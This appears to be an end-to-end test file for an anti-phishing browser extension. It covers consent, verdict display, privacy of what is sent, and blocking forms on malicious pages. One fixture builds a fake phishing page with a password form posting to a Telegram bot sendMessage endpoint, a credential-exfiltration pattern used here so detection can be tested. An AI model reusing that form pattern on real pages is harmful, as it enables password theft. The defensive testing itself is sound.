/** The extension in a real Chromium: consent, verdicts, what is sent, and the warning before a form. */
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { until } from './support/app.ts';
import { chromiumPath } from './support/browser.ts';
import { PAGES, withScene } from './support/extension-scene.ts';

describe.skipIf(!chromiumPath)('the extension', () => {
  test('asks for consent first, and then shows the verdicts of the server in badge and popup', () =>
    withScene({ consent: false }, async ({ extension, app, key, site, received, badge, assessments }) => {
      const page = await extension.context.newPage();
      await page.goto(`${site}/garden`);
      await badge(page, '–');
      expect(received).toEqual([]);
      const isFirstRun = () => extension.context.pages().find((one) => one.url().endsWith('/welcome.html'));
      await until(() => isFirstRun() !== undefined, 'the first-run page is shown');
      const first = isFirstRun() as Page;
      await first.locator('#server').fill(app.url);
      await first.locator('#key').fill(key);
      await first.locator('#accept').click();
      await first.locator('#done').waitFor();
      await badge(page, '✓');
      expect(await first.locator('#problem').isVisible()).toBe(false);

      await page.goto(`${site}/phish`);
      await badge(page, '✕');
      const [hostile, benign] = await assessments();
      expect(benign).toMatchObject({ url: `${site}/garden`, threatLevel: 'BENIGN' });
      expect(hostile).toMatchObject({ url: `${site}/phish`, threatLevel: 'MALICIOUS' });

      const popup = await extension.open(`popup.html?tab=${await extension.tabOf(page)}`);
      await popup.locator('#title').filter({ hasText: 'Malicious: phishing' }).waitFor();
      expect(await popup.locator('#score').textContent()).toContain(`Risk ${hostile?.riskScore} of 100`);
      expect(await popup.locator('#reasons li').allTextContents()).toEqual(hostile?.reasons);
      expect(await popup.locator('.counts dd').allTextContents()).toEqual(['1', '0', '1', '0']);
      expect(await popup.locator('#alerts li').count()).toBe(1);
      const link = await popup.locator('#details a').getAttribute('href');
      expect(link).toBe(`${app.url}/pages?assessment=${encodeURIComponent(hostile?.id ?? '')}`);
    }));

  test('sends no values, credentials or fragments, and nothing of a paused site or a private window', () =>
    withScene({}, async ({ extension, site, received, badge }) => {
      const page = await extension.context.newPage();
      await page.goto(`${site.replace('://', '://ann:secret@')}/phish?q=diagnosis&n=1#part`);
      await page.locator('input[name=pass]').fill('correct horse');
      await badge(page, '✕');
      expect(received).toHaveLength(1);
      const [sent] = received;
      expect(sent).toMatchObject({
        url: `${site}/phish?q=&n=`,
        title: 'Sign in',
        inlineScripts: ['1 + 1'],
        dom: { forms: 1, passwordFields: 1 },
      });
      expect(sent?.forms?.[0]?.fields.map(({ type, name }) => `${type} ${name}`)).toEqual([
        'email email',
        'password pass',
        'textarea note',
      ]);
      const text = JSON.stringify(sent);
      for (const value of ['hunter2', 'correct horse', 'diagnosis', 'secret', 'ann@', 'dear diary', '#part'])
        expect(text).not.toContain(value);

      const popup = await extension.open(`popup.html?tab=${await extension.tabOf(page)}`);
      await popup.getByRole('button', { name: 'Pause on this site' }).click();
      await popup.getByRole('button', { name: 'Resume on this site' }).waitFor();
      await page.goto(`${site}/garden`);
      await badge(page, '–');

      // The browser keeps the extension out of private windows.
      expect(await popup.evaluate('chrome.runtime.getManifest().incognito')).toBe('not_allowed');
      const browser = await extension.context.browser()?.newBrowserCDPSession();
      const { browserContextId } = (await browser?.send('Target.createBrowserContext')) ?? {};
      expect(browserContextId).toBeDefined();
      await browser?.send('Target.createTarget', {
        url: `${site}/phish?private`,
        browserContextId: browserContextId as string,
      });
      await popup.getByRole('button', { name: 'Resume on this site' }).click();
      await badge(page, '✓');
      expect(received.map(({ url }) => url)).toEqual([sent?.url, `${site}/garden`]);
    }));

  test('stops a form of a malicious page, until the user overrules the warning', () => {
    const pages = {
      '/phish':
        '<title>Sign in</title><script>1</script><form id="f" method="post" action="/collect"><input type="password" name="p">' +
        '<button>Sign in</button></form><form action="https://api.telegram.org/bot1:x/sendMessage"><input type="password"></form>',
      '/collect': 'thanks',
    };
    return withScene({ pages }, async ({ extension, site, posts, badge }) => {
      const page = await extension.context.newPage();
      await page.goto(`${site}/phish`);
      await badge(page, '✕');
      await page.locator('button').click();
      await page.waitForURL(`${extension.origin}/warning.html`);
      expect(await page.locator('#reasons').textContent()).toContain('Telegram');

      // Scripts of the page are stopped by the browser: they never meet the form's listener.
      await page.goto(`${site}/phish`);
      await badge(page, '✕');
      const reached = await page.evaluate(
        `fetch('/collect', { method: 'POST' }).then(() => true, () => false)`,
      );
      expect(reached).toBe(false);
      await page.evaluate(`HTMLFormElement.prototype.submit.call(document.getElementById('f'))`);
      await until(() => page.url() === `${extension.origin}/warning.html`, 'the warning is shown');
      expect(posts).toEqual([]);

      await page.locator('#overrule').click();
      await page.waitForURL(`${site}/phish`);
      await badge(page, '✕');
      await page.locator('button').click();
      await page.waitForURL(`${site}/collect`);
      expect(posts).toEqual(['POST /collect']);
    });
  });

  test('stops forms with GET that the user or requestSubmit() sends, and not those of form.submit()', () => {
    const form =
      '<form id="f" action="/search"><input type="password" name="p" value="1"><button>Find</button></form>';
    const pages = { ...PAGES, '/phish': `${PAGES['/phish']}${form}`, '/search': '<title>Found</title>' };
    return withScene({ pages }, async ({ extension, site, badge, gets }) => {
      const page = await extension.context.newPage();
      const sends = [
        () => page.getByRole('button', { name: 'Find' }).click(),
        () => page.locator('#f input').press('Enter'),
        () => page.evaluate(`document.getElementById('f').requestSubmit()`),
      ];
      for (const send of sends) {
        await page.goto(`${site}/phish`);
        await badge(page, '✕');
        await send();
        await page.waitForURL(`${extension.origin}/warning.html`);
      }
      expect(gets).not.toContain('/search');
      await page.goto(`${site}/phish`);
      await badge(page, '✕');
      await page.evaluate(`document.getElementById('f').submit()`);
      await page.waitForURL(`${site}/search?p=1`);
    });
  });

  test('judges pages that were open before it was installed or updated', () =>
    withScene({ consent: false }, async ({ extension, app, key, site, received, badge }) => {
      const page = await extension.context.newPage();
      await page.goto(`${site}/garden`);
      await badge(page, '–');
      await extension.update();
      await badge(page, '–');
      expect(received).toEqual([]);
      await extension.configure({ consent: true, server: app.url, key });
      await badge(page, '✓');
      await extension.update();
      await until(() => received.length === 2, 'the page is judged again');
      await badge(page, '✓');
      expect(received.map(({ url }) => url)).toEqual([`${site}/garden`, `${site}/garden`]);
    }));
});
